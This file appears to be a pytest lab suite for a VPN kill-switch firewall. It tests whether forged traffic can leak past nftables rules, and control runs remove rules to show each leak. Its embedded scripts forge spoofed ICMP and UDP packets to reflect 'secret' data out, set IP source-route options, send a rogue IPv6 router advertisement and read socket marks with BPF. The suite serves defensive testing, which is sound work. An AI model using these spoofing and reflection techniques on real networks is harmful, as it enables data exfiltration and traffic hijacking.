"""What an attacker found in the allowances, each with the control in which it is seen to leak."""

from __future__ import annotations

import subprocess

import pytest

from failshut.drill.network.wait import until
from grouped import INTERNET4, ROUTER4, UNDERLAY4
from sandbox import FAILSHUT

pytestmark = pytest.mark.lab

PYTHON = "/usr/bin/python3"
NET_RAW = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")
NET_RAW = (*NET_RAW, "--inh-caps=-all,+net_raw", "--ambient-caps=+net_raw", "--bounding-set=-all,+net_raw")
USER = ("setpriv", "--reuid=1000", "--regid=1000", "--clear-groups")
LAN = '[allow.lan]\nprefixes = ["192.168.50.0/24"]\n'
OUTSIDE = '[outside]\nprefixes = ["198.51.100.0/24"]\n'

# An echo request to the machine from somebody else: the answer would carry the data out.
REFLECT = """
import socket, struct, sys
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 65535)
    return ~(total + (total >> 16)) & 65535
head = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"secret" + sys.argv[1].encode().ljust(10)
body = head[:2] + struct.pack("!H", checksum(head)) + head[4:]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
for source in sys.argv[4:]:
    ends = socket.inet_aton(source) + socket.inet_aton(sys.argv[2])
    outer = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 1, 0) + ends
    outer = outer[:10] + struct.pack("!H", checksum(outer)) + outer[12:]
    to = bytes.fromhex(sys.argv[3].partition("/")[2])
    raw.sendto(outer + body, (sys.argv[3].partition("/")[0], 0x800, 0, 1, to))
"""

# Sends to a group that it has joined, and lets only copies with this bit in their mark through (SKF_AD_MARK).
READ_THE_MARK = """
import ctypes, socket, struct, sys
group, port, here = "224.0.0.251", 5353, sys.argv[1]
heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
heard.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
heard.bind(("", port))
heard.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(here))
heard.settimeout(0.3)
said = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
said.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(here))
def passes(mask, value):
    steps = [(0x20, 0, 0, 0xFFFFF000 + 20), (0x54, 0, 0, mask), (0x15, 0, 1, value), (6, 0, 0, 0xFFFFFFFF), (6, 0, 0, 0)]
    code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *each) for each in steps))
    heard.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxQ", len(steps), ctypes.addressof(code)))
    for _ in range(3):
        said.sendto(b"probe", (group, port))
        try:
            heard.recvfrom(99)
            return True
        except TimeoutError:
            pass
    return False
print("any" if passes(0, 0) else "none", "zero" if passes(0xFFFFFFFF, 0) else "marked")
"""

# Datagrams to the machine from somebody else's address and port; a service that answers carries them on.
FORGE = """
import socket, struct, sys
raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
source, target = map(socket.inet_aton, sys.argv[1:3])
for port in map(int, sys.argv[4:]):
    body = struct.pack("!HHHH", port, 5000, 14, 0) + b"secret"
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0) + source + target
    total = sum(struct.unpack("!10H", head)); total = (total >> 16) + (total & 65535)
    head = head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 65535) + head[12:]
    raw.sendto(head + body, (sys.argv[3], 0x800))
"""
ANSWER = """
import socket, sys
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((sys.argv[1], 5000))
print("ready", flush=True)
while True:
    data, peer = sock.recvfrom(99)
    try:
        sock.sendto(data, peer)
    except OSError:
        pass
"""

SOURCE_ROUTE = """
import socket, sys
via, final, kind = sys.argv[1], sys.argv[2], int(sys.argv[3])
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([kind, 7, 4]) + socket.inet_aton(via) + b"\\0")
try:
    sock.sendto(b"detour", (final, 9001))
except OSError as error:
    print(error)
"""

# A router's advertisement (RFC 4861, 4.2) that says a prefix of length 120 is on the link (4.6.2).
ADVERTISE = """
import socket, struct, sys
device, source, target, prefix = sys.argv[1:]
ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
on_link = struct.pack("!BBBBIII", 3, 4, 120, 0x80, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, prefix)
said = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + on_link
total = sum(struct.unpack("!%dH" % (len(ends + said) // 2), ends + said)) + len(said) + 58
total = (total >> 16) + (total & 65535)
total = (total >> 16) + (total & 65535)
said = said[:2] + struct.pack("!H", ~total & 65535) + said[4:]
packet = struct.pack("!IHBB", 6 << 28, len(said), 58, 255) + ends + said
socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM).sendto(packet, (device, 0x86DD))
"""
CALL = f"import socket; socket.create_connection(('{INTERNET4}', 80))"
PRINT = "import socket; socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'print', ('fd50::1', 631))"


@pytest.fixture
def container(grouped):
    """A machine with a bridge, and the prefix of commands that run in a container on it."""
    grouped.must("sysctl", "-qw", "net.ipv4.ip_forward=1")
    return grouped.container("addr add 172.20.0.2/24 dev inner", "route add default via 172.20.0.1")


def test_a_container_can_t_reflect_its_data_off_the_machine(grouped, container):
    """With CAP_NET_RAW it forges a LAN host and a host outside; the control: as itself it is answered, and unlocked it reflects."""
    grouped.arm(LAN, OUTSIDE)
    forged = (ROUTER4, INTERNET4)
    bridge = grouped.hardware("br-x")

    def reflect(word: str) -> set[str]:
        grouped.watch()
        argv = [*container, *NET_RAW, PYTHON, "-c", REFLECT, word, UNDERLAY4, f"inner/{bridge}", *forged]
        subprocess.run(argv, check=True, timeout=20)
        return {each.target for each in grouped.seen() if each.protocol == "icmp" and each.device == "cable"}

    assert reflect("locked") == set()
    for family in ("inet", "netdev"):
        grouped.must("nft", "delete", "table", family, "failshut")
    grouped.must("wg-quick", "down", "wg0")
    assert reflect("open") == set(forged), "the control"


def test_no_program_reads_the_stamp_off_its_own_multicast(grouped):
    """The kernel hands back a copy of what leaves: it comes without the mark. The control: without that rule it is marked."""
    grouped.arm(LAN + "multicast = true\n")
    # wg-quick's own tables would hide it for UDP.
    for family in ("ip", "ip6"):
        grouped.must("nft", "delete", "table", family, "wg-quick-wg0")

    assert grouped.must(*USER, PYTHON, "-c", READ_THE_MARK, UNDERLAY4).split() == ["any", "zero"]

    grouped.must("nft", "flush", "chain", "inet", "failshut", "prerouting")
    assert grouped.must(*USER, PYTHON, "-c", READ_THE_MARK, UNDERLAY4).split() == ["any", "marked"], "the control"


@pytest.mark.parametrize(("kind", "via"), [(131, INTERNET4), (137, ROUTER4)], ids=["loose", "strict"])
def test_a_source_route_leads_nothing_by_an_allowed_address_to_another(grouped, kind, via):
    """The header names an address that is allowed, the option the one that is meant (RFC 791). The control: unlocked it leaves."""
    grouped.arm(LAN, OUTSIDE)

    def sent() -> list[str]:
        grouped.watch()
        grouped.run(*NET_RAW, PYTHON, "-c", SOURCE_ROUTE, via, "203.0.113.99", str(kind))
        return [each.target for each in grouped.seen() if each.device == "cable" and "detour" in each.payload]

    assert sent() == []
    for family in ("inet", "netdev"):
        grouped.must("nft", "delete", "table", family, "failshut")
    assert sent(), "the control"


def test_a_bridge_s_name_leads_no_one_to_the_internet(grouped):
    """A bridge that is called as Docker's gets a cable after arming: only private addresses are reached by it."""
    grouped.must("ip", "link", "add", "br-lan", "type", "bridge")
    grouped.must("ip", "link", "set", "br-lan", "up")
    grouped.arm()
    grouped.must("wg-quick", "down", "wg0")
    grouped.must("ip", "link", "set", "eth0", "nomaster")
    # The cable itself becomes the bridge's port; its own layer under IP is there, so that is taken away.
    grouped.must("nft", "delete", "table", "netdev", "failshut")
    grouped.must("ip", "link", "set", "eth0", "master", "br-lan")
    grouped.must("ip", "addr", "add", f"{UNDERLAY4}/24", "dev", "br-lan")
    grouped.must("ip", "route", "replace", "default", "via", ROUTER4, "dev", "br-lan")
    send = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'clear', ('{INTERNET4}', 9001))"

    def sent() -> set[str]:
        grouped.watch()
        grouped.run(*USER, PYTHON, "-c", send)
        return {each.target for each in grouped.seen() if each.payload == "clear"}

    assert sent() == set()
    grouped.must("nft", "delete", "table", "inet", "failshut")
    assert sent() == {INTERNET4}, "the control"


def test_the_tunnel_s_server_can_t_reflect_off_the_machine_what_it_forges(grouped):
    """Out of the tunnel comes an echo request of a LAN host and of one outside; both are reached beside the tunnel, never by it."""
    grouped.arm(LAN, OUTSIDE)
    # The server may send to the underlay's address through the tunnel.
    grouped.server("sh", "-c", "wg set served peer $(wg show served peers) allowed-ips 10.99.0.2/32,192.168.50.2/32")

    def reflect(word: str) -> set[str]:
        grouped.watch()
        grouped.server("/usr/bin/python3", "-c", REFLECT, word, UNDERLAY4, "served/", ROUTER4, INTERNET4)
        return {each.target for each in grouped.seen() if each.protocol == "icmp" and each.device == "cable"}

    assert reflect("locked") == set()
    grouped.must("nft", "flush", "chain", "inet", "failshut", "prerouting")
    assert reflect("open"), "the control: without the rule the machine answers in the clear"


def test_the_tunnel_s_server_can_t_draw_the_lan_into_the_tunnel(grouped):
    """It advertises a part of the LAN as on the tunnel's own link. The control: without the rule the LAN's packets go to it."""
    grouped.arm('[allow.lan]\nprefixes = ["fd50::/64"]\n')
    grouped.server("sh", "-c", "wg set served peer $(wg show served peers) allowed-ips 10.99.0.2/32,fd99::2/128")
    # What the server sends to is what it is let send to; whom it says it is, is its own affair.
    grouped.must("sysctl", "-qw", "net.ipv6.conf.wg0.accept_ra=1")

    def printed() -> set[str]:
        grouped.server(PYTHON, "-c", ADVERTISE, "served", "fe80::bad", "fd99::2", "fd50::")
        # What comes by the tunnel after it says that it was heard.
        assert grouped.carries()
        grouped.watch()
        grouped.must(*USER, PYTHON, "-c", PRINT)
        grouped.carries()
        return {each.device for each in grouped.seen() if each.payload == "print"}

    assert printed() == {"cable"}
    listed = grouped.must("nft", "-a", "list", "chain", "inet", "failshut", "input")
    (handle,) = (line.split()[-1] for line in listed.splitlines() if "tunnel-router" in line)
    grouped.must("nft", "delete", "rule", "inet", "failshut", "input", "handle", handle)
    assert printed() == {"served"}, "the control"


def test_a_sign_in_whose_portal_was_killed_ends_with_all_that_is_revoked(grouped):
    """What is left in its group reaches the web until the kernel's deadline (the control), and nothing after `revoke --all`."""
    grouped.arm("[allow]\nportal = true\n")
    grouped.must("wg-quick", "down", "wg0")
    signing_in = grouped.start("env", "SUDO_UID=1000", *FAILSHUT, "portal", "--resolver", ROUTER4)
    assert until(lambda: "expires" in grouped.run("nft", "list", "set", "inet", "failshut", "portal-programs").stdout, within=60)
    signing_in.kill()
    signing_in.communicate()
    group = "/sys/fs/cgroup/failshut.slice/failshut-portal.slice"
    call = f'echo $$ >{group}/cgroup.procs && exec timeout 1 {PYTHON} -c "{CALL}"'

    def calls_out() -> set[tuple[str, int]]:
        grouped.watch()
        grouped.run("sh", "-c", call)
        return {(each.target, each.port) for each in grouped.seen() if each.protocol == "tcp"}

    assert calls_out() == {(INTERNET4, 80)}, "the control"
    assert "the sign-in at a portal" in grouped.must(*FAILSHUT, "status")
    assert "sign-in" in grouped.must(*FAILSHUT, "revoke", "--all")
    assert calls_out() == set()


def forging(grouped):
    """Start a service, and return what has the tunnel's server call it as 198.51.100.9: where which of its ports was answered."""
    grouped.server("sh", "-c", "wg set served peer $(wg show served peers) allowed-ips 10.99.0.2/32,192.168.50.2/32")
    service = grouped.start(PYTHON, "-c", ANSWER, UNDERLAY4)
    assert service.stdout.readline() == "ready\n"

    def answered() -> set[tuple[str, int]]:
        grouped.watch()
        # The last one's answer says that all were heard.
        grouped.server(PYTHON, "-c", FORGE, "198.51.100.9", UNDERLAY4, "served", *["123", "124"] * 20)
        grouped.carries()
        return {(each.device, each.port) for each in grouped.seen() if each.payload == "secret" and each.target == "198.51.100.9"}

    return answered


def calls(grouped) -> list[str]:
    """Have root's program call the pinned port; return where that was seen."""
    grouped.watch()
    call = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'call', ('198.51.100.9', 123))"
    grouped.must(PYTHON, "-c", call)
    return [each.device for each in grouped.seen() if each.payload == "call"]


PIN = '[[allow.outbound]]\nname = "ntp"\nprotocol = "udp"\nto = ["198.51.100.9"]\nport = 123\n'


@pytest.mark.parametrize("more", ["", 'user = "root"\n', "on_demand = true\n"], ids=["anyone's", "root's", "on-demand"])
def test_the_tunnel_s_server_can_t_have_a_service_answer_a_pinned_address_in_the_clear(grouped, more):
    """It forges the pin's address and port, and is answered into the tunnel; the machine's own call still gets there, beside it."""
    grouped.arm(PIN + more)
    if "on_demand" in more:
        grouped.must(*FAILSHUT, "allow", "ntp", "--for", "10m")
    answered = forging(grouped)

    # Routed by its port, what answers the pin is refused, or goes into the tunnel.
    assert {each for each in answered() if each[0] == "cable"} == set()
    assert calls(grouped) == ["cable"]
    rewritten = grouped.must("nft", "-s", "list", "table", "inet", "failshut").replace(" ct direction original", "")
    grouped.must("nft", "-f", "-", stdin=f"flush table inet failshut\n{rewritten}")
    assert ("cable", 123) in answered(), "the control: without the question for the direction the machine answers in the clear"


@pytest.mark.parametrize("whose", [(), ("--user", "root")], ids=["anyone's", "root's"])
def test_the_tunnel_s_server_can_t_have_a_service_answer_what_is_open_for_a_time(grouped, whose):
    """Its answers go into the tunnel, and the machine's own call still gets there. The control: without the two rules."""
    grouped.arm()
    grouped.must(*FAILSHUT, "allow", "to", "198.51.100.9:123/udp", *whose, "--for", "10m")
    answered = forging(grouped)

    assert answered() == {("served", 123), ("served", 124)}
    assert calls(grouped) == ["cable"]
    for chain in ("timed", "timed-underlay"):
        listed = grouped.must("nft", "-a", "list", "chain", "inet", "failshut", chain)
        (handle,) = (line.split()[-1] for line in listed.splitlines() if "ct direction reply" in line)
        grouped.must("nft", "delete", "rule", "inet", "failshut", chain, "handle", handle)
    assert answered() == {("served", 124), ("cable", 123)}, "the control"
